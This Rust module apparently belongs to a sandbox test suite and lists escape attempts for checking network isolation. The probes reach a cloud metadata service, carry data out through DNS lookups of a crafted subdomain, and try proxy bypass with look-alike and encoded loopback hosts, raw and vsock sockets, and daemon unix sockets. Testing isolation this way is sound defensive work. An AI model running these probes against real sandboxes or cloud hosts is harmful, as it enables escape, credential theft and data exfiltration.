//! Reaching anybody: the internet, this machine, its daemons.
//!
//! Addresses of the internet are those set aside for documentation: nobody is bothered. A packet counts as sent when
//! the kernel has taken it; whether somebody would have answered does not matter.

use std::io::{self, BufRead, BufReader, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixStream};
use std::time::Duration;

use rustix::net::{AddressFamily, Protocol, SocketFlags, SocketType, connect, ipproto, socket_with};

use super::super::attempt::{ActResults, AttemptPolicy, EscapeAttempt, HostileAct, allowed};
use super::super::facts::{GroundFacts, LISTED_HOST, METADATA_HOST, UNLISTED_HOST};

const SOMEWHERE: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1));
const SOMEWHERE_V6: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1));
const SERVICE: IpAddr = IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254));

/// Sockets to the ciphers of the kernel.
const ALG: u16 = libc::AF_ALG as u16;

/// How long somebody near may take to answer.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(5);

pub(super) const ATTEMPTS: &[EscapeAttempt] = &[
    EscapeAttempt {
        name: "reach-internet-v4",
        attempted: "connect to an address of the internet",
        setting: AttemptPolicy::Network,
        run: |_| Ok(vec![HostileAct::new("connect", begin(SOMEWHERE, 443))]),
    },
    EscapeAttempt {
        name: "reach-internet-v6",
        attempted: "connect to an IPv6 address of the internet",
        setting: AttemptPolicy::Network,
        run: |_| Ok(vec![HostileAct::new("connect", begin(SOMEWHERE_V6, 443))]),
    },
    EscapeAttempt {
        name: "reach-internet-udp",
        attempted: "send a datagram to the internet",
        setting: AttemptPolicy::Network,
        run: |_| {
            Ok(vec![
                HostileAct::new("send", send("0.0.0.0:0", SOMEWHERE)),
                HostileAct::new("send by IPv6", send("[::]:0", SOMEWHERE_V6)),
            ])
        },
    },
    EscapeAttempt {
        name: "reach-host-loopback",
        attempted: "connect to a port on which the host listens at 127.0.0.1",
        setting: AttemptPolicy::Network,
        run: |facts| {
            let address = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), facts.closed_port);
            Ok(vec![HostileAct::new(
                "connect",
                TcpStream::connect_timeout(&address, ANSWER_TIMEOUT),
            )])
        },
    },
    EscapeAttempt {
        name: "resolve-unlisted-name",
        attempted: "look up a name that no grant names, and carry data out in it",
        setting: AttemptPolicy::Network,
        run: |facts| {
            let mut acts = Vec::new();
            if has_proxy() {
                allowed("look up the granted name", resolve(LISTED_HOST))?;
            }
            let carrier = format!("{}.{UNLISTED_HOST}", facts.mark);
            acts.push(HostileAct::new("look it up", resolve(UNLISTED_HOST)));
            acts.push(HostileAct::new("look up data", resolve(&carrier)));
            Ok(acts)
        },
    },
    EscapeAttempt {
        name: "connect-unlisted-host",
        attempted: "reach a host that no grant names, through the proxy",
        setting: AttemptPolicy::Network,
        run: |facts| {
            let beside = format!("evil{LISTED_HOST}");
            through_proxy(facts, &[UNLISTED_HOST, &beside])
        },
    },
    EscapeAttempt {
        name: "connect-address-by-proxy",
        attempted: "reach a bare address, the host's loopback among them, through the proxy",
        setting: AttemptPolicy::Network,
        run: |facts| through_proxy(facts, &["127.0.0.1", "192.0.2.1", "[::1]", "2130706433"]),
    },
    EscapeAttempt {
        name: "reach-metadata-service",
        attempted: "reach a cloud's metadata service, by address and by a granted name that leads there",
        setting: AttemptPolicy::Network,
        run: |facts| {
            let mut acts = through_proxy(facts, &["169.254.169.254", METADATA_HOST])?;
            acts.push(HostileAct::new("connect", begin(SERVICE, 80)));
            Ok(acts)
        },
    },
    EscapeAttempt {
        name: "reach-unix-socket",
        attempted: "connect to a daemon's unix socket inside a granted directory",
        setting: AttemptPolicy::Files,
        run: |facts| {
            Ok(vec![HostileAct::new(
                "connect",
                UnixStream::connect(facts.socket()),
            )])
        },
    },
    EscapeAttempt {
        name: "reach-abstract-socket",
        attempted: "connect to a daemon's abstract unix socket",
        setting: AttemptPolicy::Files,
        run: |facts| {
            let reached =
                UnixAddress::from_abstract_name(&facts.mark).and_then(|name| UnixStream::connect_addr(&name));
            Ok(vec![HostileAct::new("connect", reached)])
        },
    },
    EscapeAttempt {
        name: "open-raw-socket",
        attempted: "open a raw socket, or one that sees every packet",
        setting: AttemptPolicy::Network,
        run: |_| {
            Ok(vec![
                HostileAct::new(
                    "raw",
                    open(AddressFamily::INET, SocketType::RAW, Some(ipproto::ICMP)),
                ),
                HostileAct::new(
                    "raw IPv6",
                    open(AddressFamily::INET6, SocketType::RAW, Some(ipproto::ICMPV6)),
                ),
                HostileAct::new("packets", open(AddressFamily::PACKET, SocketType::RAW, None)),
            ])
        },
    },
    EscapeAttempt {
        name: "open-odd-socket",
        attempted: "open a socket to the hypervisor or to the kernel's own services",
        setting: AttemptPolicy::Network,
        run: |_| {
            let audit = Protocol::from_raw(core::num::NonZeroU32::MIN.saturating_add(8));
            Ok(vec![
                HostileAct::new("vsock", open(AddressFamily::VSOCK, SocketType::STREAM, None)),
                HostileAct::new(
                    "alg",
                    open(AddressFamily::from_raw(ALG), SocketType::SEQPACKET, None),
                ),
                HostileAct::new(
                    "netlink audit",
                    open(AddressFamily::NETLINK, SocketType::RAW, Some(audit)),
                ),
            ])
        },
    },
];

fn open(family: AddressFamily, kind: SocketType, protocol: Option<Protocol>) -> io::Result<()> {
    Ok(socket_with(family, kind, SocketFlags::CLOEXEC, protocol).map(drop)?)
}

/// Begins a connection. That it has begun is enough: the first packet has left.
fn begin(address: IpAddr, port: u16) -> io::Result<()> {
    let family = if address.is_ipv4() {
        AddressFamily::INET
    } else {
        AddressFamily::INET6
    };
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    let socket = socket_with(family, SocketType::STREAM, flags, None)?;
    match connect(&socket, &SocketAddr::new(address, port)) {
        Ok(()) | Err(rustix::io::Errno::INPROGRESS) => Ok(()),
        Err(error) => Err(error.into()),
    }
}

fn send(from: &str, to: IpAddr) -> io::Result<usize> {
    UdpSocket::bind(from)?.send_to(b"data", (to, 53))
}

/// Where the sandbox says that its proxy is.
fn proxy() -> Option<String> {
    std::env::var("HTTPS_PROXY")
        .ok()?
        .strip_prefix("http://")
        .map(str::to_owned)
}

/// Whether there is a network at all. Without namespaces there is none, and nothing that could be allowed.
fn has_proxy() -> bool {
    proxy().is_some()
}

fn through_proxy(facts: &GroundFacts, hosts: &[&str]) -> ActResults {
    if has_proxy() {
        allowed(
            "reach the granted host through the proxy",
            tunnel(LISTED_HOST, facts.open_port),
        )?;
    }
    Ok(hosts
        .iter()
        .map(|host| HostileAct::new(*host, tunnel(host, facts.closed_port)))
        .collect())
}

/// Asks the proxy for a way to a host.
fn tunnel(host: &str, port: u16) -> io::Result<()> {
    let proxy = proxy().unwrap_or_else(|| "127.0.0.1:3128".to_owned());
    let mut stream = TcpStream::connect(proxy)?;
    stream.set_read_timeout(Some(ANSWER_TIMEOUT))?;
    write!(
        stream,
        "CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"
    )?;
    let mut line = String::new();
    BufReader::new(stream).read_line(&mut line)?;
    if line.split(' ').nth(1) == Some("200") {
        Ok(())
    } else {
        Err(io::Error::other(line.trim().to_owned()))
    }
}

/// Asks the sandbox's resolver for a name's address.
fn resolve(name: &str) -> io::Result<()> {
    let socket = UdpSocket::bind("127.0.0.1:0")?;
    socket.set_read_timeout(Some(ANSWER_TIMEOUT))?;
    // An identifier, a wish for recursion, one question: an address of the internet.
    let mut question = vec![0x41, 0x52, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        question.push(u8::try_from(label.len()).map_err(io::Error::other)?);
        question.extend(label.bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    socket.send_to(&question, ("127.0.0.1", 53))?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer)?;
    match answer.get(..length).unwrap_or_default() {
        [_, _, _, flags, _, _, high, low, ..] if flags & 0xf == 0 && (*high, *low) != (0, 0) => Ok(()),
        [_, _, _, flags, ..] => Err(io::Error::other(format!(
            "no address (answer code {})",
            flags & 0xf
        ))),
        _ => Err(io::ErrorKind::InvalidData.into()),
    }
}
